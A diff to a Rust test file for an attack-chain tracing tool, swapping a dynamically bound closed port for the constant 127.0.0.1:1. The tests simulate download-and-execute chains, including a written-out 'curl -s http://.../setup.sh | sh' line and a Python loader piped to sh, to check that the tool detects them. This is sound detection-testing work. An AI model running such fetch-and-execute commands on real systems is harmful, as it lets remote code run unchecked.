@@ -1,8 +1,6 @@
 //! `hunt` tells known chains of attack from their first cause to their extent. All of them are
 //! simulations that touch the test's own files only.
 
-use std::net::TcpListener;
-
 use backstory_testkit::need::needs;
 use serde_json::Value;
 
@@ -100,8 +98,7 @@ fn an_address_from_which_perhaps_nothing_came_is_only_possibly_the_origin() {
         return;
     }
     let place = Place::new();
-    let address = closed_address();
-    let port = address.rsplit(':').next().unwrap();
+    let port = CLOSED.rsplit(':').next().unwrap();
     place.write(
         "load.py",
         &format!(
@@ -115,18 +112,15 @@ fn an_address_from_which_perhaps_nothing_came_is_only_possibly_the_origin() {
     // The shell says that its child was killed.
     let run = place.record("exec 2> /dev/null; python3 load.py | sh");
     let finding = only_found(&place, &run, "download-run-by-shell");
-    assert_eq!(finding["cause_origin"], format!("tcp:{address}"));
+    assert_eq!(finding["cause_origin"], format!("tcp:{CLOSED}"));
     assert_eq!(finding["cause_origin_possible"], true, "{finding}");
     let text = place.run(&["hunt", &run]).out;
-    let cause = format!("  cause    sh  (possibly from tcp:{address}, received by python3");
+    let cause = format!("  cause    sh  (possibly from tcp:{CLOSED}, received by python3");
     assert!(text.contains(&cause), "{text}");
 }
 
-/// An address without a server.
-fn closed_address() -> String {
-    let closed = TcpListener::bind("127.0.0.1:0").unwrap();
-    closed.local_addr().unwrap().to_string()
-}
+/// An address without a server. No other test can get this port.
+const CLOSED: &str = "127.0.0.1:1";
 
 #[test]
 fn a_download_that_was_refused_is_no_finding() {
@@ -134,13 +128,12 @@ fn a_download_that_was_refused_is_no_finding() {
         return;
     }
     let place = Place::new();
-    let address = closed_address();
-    let run = place.record(&format!("curl -s http://{address}/setup.sh | sh"));
+    let run = place.record(&format!("curl -s http://{CLOSED}/setup.sh | sh"));
     let none = found(&place, &run, "download-run-by-shell");
     assert_eq!(none, Vec::<Value>::new());
     // The attempt itself is in the record.
     let peers = place.run(&["peers", &run]).out;
-    assert!(peers.contains(&address), "{peers}");
+    assert!(peers.contains(CLOSED), "{peers}");
 }
 
 #[test]
